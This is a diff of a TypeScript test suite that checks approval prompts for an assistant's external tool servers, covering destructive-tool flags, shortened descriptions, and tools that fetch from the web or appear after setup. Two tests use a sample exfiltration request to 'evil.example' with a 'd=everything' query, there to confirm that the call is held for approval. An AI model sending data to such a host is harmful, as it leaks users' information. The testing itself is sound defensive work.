@@ -56,6 +56,23 @@ async function waiting(content: string, user = ann) {
   return { asks, answer }
 }
 
+it('an approval shows what the server says of its tool, shortened, and that it may delete things', async () => {
+  const description = `Deletes notes. ${'Really. '.repeat(100)}`
+  odd.is.tools = [{ name: 'delete_note', description, annotations: { destructiveHint: true } }]
+  await added('Notes', odd.url)
+  const { asks, answer } = await waiting('Delete the note about milk')
+  expect(asks).toMatchObject({ integration: 'Notes', destructive: true })
+  expect(asks?.description).toBe(`${description.slice(0, 400)}...`)
+  await answer(false)
+
+  odd.is.tools = [{ name: 'rename_note' }]
+  await added('Names', odd.url)
+  const other = await waiting('Rename the note about milk')
+  expect(other.asks).not.toHaveProperty('description')
+  expect(other.asks).not.toHaveProperty('destructive')
+  await other.answer(false)
+})
+
 describe('the reference server as a custom tool', () => {
   it('CAP-01 CAP-14 is asked in plain words, and says what it can do', async () => {
     const id = await added('Everything', everything.url)
@@ -95,7 +112,11 @@ describe('the reference server as a custom tool', () => {
 describe('a server of the user’s own', () => {
   it('that fails, or is gone, costs no reply', async () => {
     odd.is.tools = [
-      { name: 'weather', description: 'Tells the weather of a city', annotations: { readOnlyHint: true } },
+      {
+        name: 'weather',
+        description: 'Tells the weather of a city',
+        annotations: { readOnlyHint: true, openWorldHint: false },
+      },
     ]
     await added('Stormy', odd.url)
     odd.is.call = () => ({ content: [{ type: 'text', text: 'The station is closed' }], isError: true })
@@ -117,7 +138,11 @@ describe('a server of the user’s own', () => {
 
   it('that wants another key says what to do', async () => {
     odd.is.tools = [
-      { name: 'weather', description: 'Tells the weather of a city', annotations: { readOnlyHint: true } },
+      {
+        name: 'weather',
+        description: 'Tells the weather of a city',
+        annotations: { readOnlyHint: true, openWorldHint: false },
+      },
     ]
     odd.is.odd = ({ headers }) => (headers.authorization === 'Bearer good' ? 'usual' : { status: 401 })
     onTestFinished(() => {
@@ -132,6 +157,53 @@ describe('a server of the user’s own', () => {
     expect(await ask('Tell the weather of the city Rome')).toMatchObject({
       toolCalls: [{ result: { success: false, error: expect.stringContaining('add it again') as string } }],
     })
+  })
+
+  it('a tool that fetches from the web takes nothing there without a yes, though it only reads (M2)', async () => {
+    const fetcher = { name: 'fetch_url', description: 'Fetches the page at a url' }
+    odd.is.tools = [{ ...fetcher, annotations: { readOnlyHint: true, openWorldHint: true } }]
+    odd.is.call = () => ({ content: [{ type: 'text', text: 'A page' }] })
+    await added('Web', odd.url)
+    const calls = odd.calls.length
+    const { answer } = await waiting('Fetch the page at https://evil.example/?d=everything')
+    expect(odd.calls).toHaveLength(calls)
+    await answer(false)
+    expect(odd.calls).toHaveLength(calls)
+  })
+
+  it('a tool that was not there when the server was added waits for a yes, whatever it says of itself (M2)', async () => {
+    const annotations = { readOnlyHint: true, openWorldHint: false }
+    const weather = { name: 'weather', description: 'Tells the weather of a city', annotations }
+    odd.is.tools = [weather]
+    odd.is.call = () => ({ content: [{ type: 'text', text: 'Sunny' }] })
+    await added('Growing', odd.url)
+    odd.is.tools = [weather, { name: 'fetch_url', description: 'Fetches the page at a url', annotations }]
+    expect((await ask('Tell the weather of the city Rome')).toolCalls).toMatchObject([
+      { tool: 'growing_weather', result: { success: true, data: 'Sunny' } },
+    ])
+    const calls = odd.calls.length
+    await (await waiting('Fetch the page at https://evil.example/?d=everything')).answer(false)
+    expect(odd.calls).toHaveLength(calls)
+  })
+
+  it('that was out of reach when it was added is there, and all of its tools wait for a yes (M2)', async () => {
+    odd.is.tools = [
+      {
+        name: 'weather',
+        description: 'Tells the weather of a city',
+        annotations: { readOnlyHint: true, openWorldHint: false },
+      },
+    ]
+    odd.is.odd = () => ({ status: 503 })
+    onTestFinished(() => {
+      odd.is.odd = () => 'usual'
+    })
+    await added('Away', odd.url)
+    odd.is.odd = () => 'usual'
+    odd.is.call = () => ({ content: [{ type: 'text', text: 'Sunny' }] })
+    const { asks, answer } = await waiting('Tell the weather of the city Rome')
+    expect(asks).toMatchObject({ integration: 'Away' })
+    expect((await answer(true)).toolCalls).toMatchObject([{ result: { success: true, data: 'Sunny' } }])
   })
 
   it('asks again for a tool that is allowed for good, once it says something else', async () => {
@@ -160,7 +232,7 @@ describe('a provider’s remote server', () => {
       body: { action: 'initiate', mcpId: 'airtable', redirectUri, environment: 'production' },
     })
     const back = await decide(authUrl, 'allow')
-    await ann.call('oauth.handle', { body: exchangeOf(back, redirectUri) })
+    await ann.call('oauth.handle', { body: exchangeOf(back) })
     const { asks, answer } = await waiting('Find the items with the words "Launch checklist" in their title')
     expect(asks).toMatchObject({ integration: 'Airtable' })
     expect(JSON.stringify((await answer(true)).toolCalls)).toContain('Press kit')
